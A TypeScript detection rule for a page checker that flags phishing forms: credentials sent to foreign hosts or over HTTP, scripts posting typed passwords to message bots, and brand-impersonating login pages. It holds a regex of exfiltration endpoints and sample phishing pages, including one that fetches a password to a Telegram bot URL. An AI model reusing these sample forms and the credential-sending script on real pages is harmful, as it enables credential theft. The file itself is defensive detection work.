import { codePieces } from '../../facts/code/code-pieces.ts';
import { valuesOf } from '../../facts/code/code-values.ts';
import { type Form, type FormField, forms, looseFields, type Sensitive } from '../../facts/forms.ts';
import { externalLinks } from '../../facts/links.ts';
import { foreignTarget } from '../../grounds/foreign-target.ts';
import { foreignBrands } from '../../grounds/posing-as-brand.ts';
import type { Page } from '../../page/page.ts';
import { pageAddress } from '../../page/page-address.ts';
import { BICYCLE, CHLEB, LIBRARY } from '../../samples/sample-prose.ts';
import { examplePage, paragraphs } from '../example.ts';
import { type Quote, quoteWhole } from '../quote.ts';
import { quoteAct } from '../quote-script.ts';
import { CLEAR, rule } from '../rule.ts';
import { type Said, sentences } from '../sentences.ts';
import type { Texts } from '../texts.ts';
import { quoted, shortened } from '../wording.ts';

const ASKED: Readonly<Record<Sensitive, Texts>> = {
  password: { en: 'a password', pl: 'hasło' },
  card: { en: 'card data', pl: 'dane karty' },
  pin: { en: 'a PIN', pl: 'kod PIN' },
  identity: { en: 'an identity number', pl: 'numer PESEL lub dokumentu' },
  bank: { en: 'bank data', pl: 'dane bankowe' },
};
/** A bot that takes messages is what stolen passwords are sent to; no shop uses it for a form. */
const DROP =
  /api\.telegram\.org\/bot|discord(?:app)?\.com\/api\/webhooks|formspree\.io|emailjs|getform\.io|web3forms|hooks\.slack\.com/i;
const LOG_IN =
  /log ?in|sign ?in|verify|verification|confirm your|account|secure|unlock|zaloguj|logowanie|weryfikacj|potwierdź|konto|konta/i;
/** Beside a brand's name a page with a text of its own is an article with a login box. */
const MAX_WORDS = 200;
/** So few are labels and a line of welcome, whatever the title says. */
const MAX_WORDS_BESIDE_FORM = 60;

interface Sign {
  readonly score: number;
  readonly says: Said;
  readonly quote: Quote | undefined;
}

const say = sentences({
  sends_away: {
    en: ({ asked, site }: { asked: Sensitive; site: string }) =>
      `A form asks for ${ASKED[asked].en} and sends it to ${site}.`,
    pl: ({ asked, site }) => `Formularz prosi o ${ASKED[asked].pl} i wysyła je na ${site}.`,
  },
  sends_unencrypted: {
    en: ({ asked }: { asked: Sensitive }) =>
      `A form asks for ${ASKED[asked].en} and sends it without encryption (http).`,
    pl: ({ asked }) => `Formularz prosi o ${ASKED[asked].pl} i wysyła je bez szyfrowania (http).`,
  },
  script_sends: {
    en: ({ asked, site }: { asked: Sensitive; site: string }) =>
      `A script reads a form that asks for ${ASKED[asked].en} and sends the data to ${site}.`,
    pl: ({ asked, site }) =>
      `Skrypt odczytuje formularz, który prosi o ${ASKED[asked].pl}, i wysyła dane na ${site}.`,
  },
  poses_as_brand: {
    en: ({ title, asked, brand }: { title: string; asked: Sensitive; brand: string }) =>
      `The page is titled ${quoted.en(title)} and asks for ${ASKED[asked].en}, but its address does not belong to ${brand}.`,
    pl: ({ title, asked, brand }) =>
      `Strona ma tytuł ${quoted.pl(title)} i prosi o ${ASKED[asked].pl}, ale jej adres nie należy do firmy ${brand}.`,
  },
});

export default rule({
  id: 'sp_phish_form',
  mode: 'spam',
  policy: 'social_engineering',
  kind: 'violation',
  layer: 'markup',
  version: 2,
  title: {
    en: 'A form sends sensitive data to a doubtful place',
    pl: 'Formularz wysyła poufne dane w wątpliwe miejsce',
  },
  fix: {
    en: 'Collect passwords, card and identity data only on your own domain over HTTPS, or hand over openly to a known payment or sign-in service.',
    pl: 'Hasła, dane kart i dokumentów zbieraj wyłącznie na własnej domenie przez HTTPS albo jawnie przekazuj je znanej usłudze płatności lub logowania.',
  },
  question: 'Does a form collect passwords, card or identity data in a suspicious way?',
  sources: ['SE', 'QR§4.5.5'],
  judges: ['code'],
  languages: 'any',
  needs: { url: true },
  basis: 'measured',
  scoring:
    'A form that asks for card, PIN, identity or bank data and is sent to another registrable domain: 0.95, for a password: 0.85; sent over plain HTTP from an HTTPS page: 0.8; typed-in data sent by script to a message bot: 0.95, to another site: 0.8; a login under the name of a well-known brand on a strange host: 0.85. Payment, sign-in and other known services, sites of the same brand and sites that the page openly links to three times do not count; plain HTTP all through: 0.4.',
  says: say,
  detect(page) {
    const signs = [
      ...forms(page).flatMap((form) => formSigns(page, form)),
      ...scriptSigns(page),
      ...brandSigns(page),
    ].sort((a, b) => b.score - a.score);
    const worst = signs[0];
    if (!worst) return CLEAR;
    return {
      score: worst.score,
      quotes: signs.slice(0, 3).map((sign) => sign.quote),
      facts: [...new Map(signs.map((sign) => [JSON.stringify(sign.says), sign.says])).values()].slice(0, 3),
    };
  },
  examples: () => ({
    hit: [
      examplePage('a password sent elsewhere', {
        found: { says: ['sends_away'], quotes: ['https://collect-box.top/save.php'] },
        title: 'Sign in to read on',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="https://collect-box.top/save.php"><input type="email" name="email"><input type="password" name="pass"><button>Sign in</button></form>`,
      }),
      examplePage('Polish identity and card data sent elsewhere', {
        found: { says: ['sends_away'], quotes: ['https://doplata-paczki.net/p'] },
        title: 'Odbierz paczkę',
        lang: 'pl',
        body: `<p>Dopłać 1,99 zł, aby odebrać paczkę.</p><form method="post" action="https://doplata-paczki.net/p"><input name="pesel" placeholder="PESEL"><input name="cardnumber" autocomplete="cc-number"><input name="cvv"><button>Zapłać</button></form>`,
      }),
      examplePage('a bank’s name on a strange host', {
        found: { says: ['poses_as_brand'], quotes: ['mBank – logowanie do serwisu'] },
        title: 'mBank – logowanie do serwisu',
        lang: 'pl',
        url: 'https://secure-klient24.com/login',
        body: '<p>Zaloguj się, aby potwierdzić konto.</p><form method="post" action="/next"><input name="login"><input type="password" name="haslo"><button>Zaloguj</button></form>',
      }),
      examplePage('an Italian sign-in under a brand’s name on a strange host', {
        found: { says: ['poses_as_brand'], quotes: ['PayPal – Accesso al conto'] },
        title: 'PayPal – Accesso al conto',
        lang: 'it',
        url: 'https://verifica-clienti.info/accesso',
        body: '<p>Inserisci i tuoi dati per continuare.</p><form method="post" action="/avanti"><label>Indirizzo e-mail <input name="utente"></label><label>Parola d’ordine <input type="password" name="chiave"></label><button>Continua</button></form>',
      }),
      examplePage('passwords sent to a bot', {
        found: { says: ['script_sends'], quotes: ["fetch('https://api.telegram.org/bot123:abc/sendMes"] },
        title: 'Members',
        body: `${paragraphs(...BICYCLE)}<form id="f"><input name="user"><input type="password" name="p"><button>Sign in</button></form><script>
          document.getElementById('f').onsubmit = function () { fetch('https://api.telegram.org/bot123:abc/sendMessage?text=' + this.p.value); };</script>`,
      }),
    ],
    clear: [
      examplePage('a login on the own domain', {
        title: 'Members of the library',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="/login"><input name="user"><input type="password" name="pass"><button>Sign in</button></form>`,
      }),
      examplePage('hand-over to a payment service', {
        title: 'Your order',
        body: `${paragraphs(...BICYCLE)}<form method="post" action="https://checkout.stripe.com/pay"><input name="cardnumber" autocomplete="cc-number"><button>Pay</button></form>`,
      }),
      examplePage('a sister site of the brand', {
        title: 'Chleb i woda',
        lang: 'pl',
        url: 'https://www.breadhouse.com/pl',
        body: `${paragraphs(...CHLEB)}<form method="post" action="https://konto.breadhouse.pl/wejscie"><input name="email"><input type="password" name="haslo"><button>Zaloguj się</button></form>`,
      }),
      examplePage('the sign-in of a sister site that menu and footer link to', {
        title: 'Science news of the day',
        url: 'https://www.lab-dispatch.com/',
        body: `${paragraphs(...LIBRARY)}<form method="post" action="https://readersclub.net/enter"><input name="email"><input type="password" name="pass"><button>Sign in</button></form>`,
        footer:
          '<footer><a href="https://readersclub.net/about">About the publisher</a> <a href="https://readersclub.net/join">Join the club</a> <a href="https://readersclub.net/help">Help</a> <a href="/privacy">Privacy policy</a></footer>',
      }),
      examplePage('an article about a brand’s login, with the site’s own login box', {
        title: 'How to secure your Google account',
        body: `${paragraphs(...LIBRARY, ...BICYCLE)}<form method="post" action="/login"><input name="user"><input type="password" name="pass"></form>`,
      }),
    ],
  }),
});

function sensitiveOf(fields: readonly FormField[]): Sensitive | undefined {
  const kinds = fields.flatMap((field) => field.sensitive ?? []);
  return kinds.find((kind) => kind !== 'password') ?? kinds[0];
}

function formSigns(page: Page, form: Form): Sign[] {
  const asked = sensitiveOf(form.fields);
  if (asked === undefined) return [];
  const quote = quoteWhole(page, { in: 'attribute', element: form.element, name: 'action' });
  const target = foreignTarget(page, form.action, 'hosts');
  if (target && !isOpenlyLinked(page, target.site)) {
    return [
      {
        score: asked === 'password' ? 0.85 : 0.95,
        says: say.sends_away({ asked, site: target.site }),
        quote,
      },
    ];
  }
  if (!form.insecure || target) return [];
  const fromSecure = pageAddress(page).secure && page.url !== undefined;
  return [
    {
      score: fromSecure ? 0.8 : 0.4,
      says: say.sends_unencrypted({ asked }),
      quote,
    },
  ];
}

/** Menus and footers lead to the sister site that signs people in; nobody links to where stolen passwords go. */
const MIN_OPEN_LINKS = 3;

function isOpenlyLinked(page: Page, site: string): boolean {
  const addresses = new Set<string>();
  for (const link of externalLinks(page))
    if (link.site === site && !link.hidden && link.text.trim() !== '') addresses.add(link.url);
  return addresses.size >= MIN_OPEN_LINKS;
}

/** What is typed in is sent away by a script. */
function scriptSigns(page: Page): Sign[] {
  const asked = sensitiveOf([...forms(page).flatMap((form) => form.fields), ...looseFields(page)]);
  if (asked === undefined) return [];
  const signs: Sign[] = [];
  for (const piece of codePieces(page)) {
    for (const act of piece.structure.calls) {
      const sends = act.name === 'fetch' || act.name === 'sendBeacon';
      const opens = act.name === 'open' && /^post$/i.test(act.value ?? '');
      if (!sends && !opens) continue;
      const place = sends ? act.after + 1 : act.after + 3;
      const address = valuesOf(page, piece, place)[0]?.text ?? '';
      const drop = DROP.test(address);
      const target = foreignTarget(page, address, 'hosts');
      // Counting and error reports are sent to others on every page: only a script that reads the fields counts.
      const { code } = piece.tokens;
      const reads =
        /\.value\b|FormData|serialize\(/.test(code) &&
        (drop || /passw|\bcard|\bpin\b|pesel|\bcvv|iban|hasl/i.test(code));
      if (!reads || (!drop && !target)) continue;
      const site = target?.site ?? URL.parse(address)?.hostname ?? '';
      signs.push({
        score: drop ? 0.95 : 0.8,
        says: say.script_sends({ asked, site }),
        quote: quoteAct(page, piece, act),
      });
    }
  }
  return signs;
}

function brandSigns(page: Page): Sign[] {
  const brand = foreignBrands(page)?.[0];
  if (brand === undefined || page.wordCount > MAX_WORDS) return [];
  const form = forms(page).find((one) => !one.hidden && sensitiveOf(one.fields) !== undefined);
  const asked = form ? sensitiveOf(form.fields) : undefined;
  if (!form || asked === undefined) return [];
  // In a language whose words for signing in are not known here, a page of little else than the form says the same.
  if (!LOG_IN.test(page.head.title) && page.wordCount > MAX_WORDS_BESIDE_FORM) return [];
  const name = brand.replace(/(^|[\s-])\p{L}/gu, (letter) => letter.toUpperCase());
  return [
    {
      score: 0.85,
      says: say.poses_as_brand({ title: shortened(page.head.title, 60), asked, brand: name }),
      quote: quoteWhole(page, { in: 'title' }),
    },
  ];
}
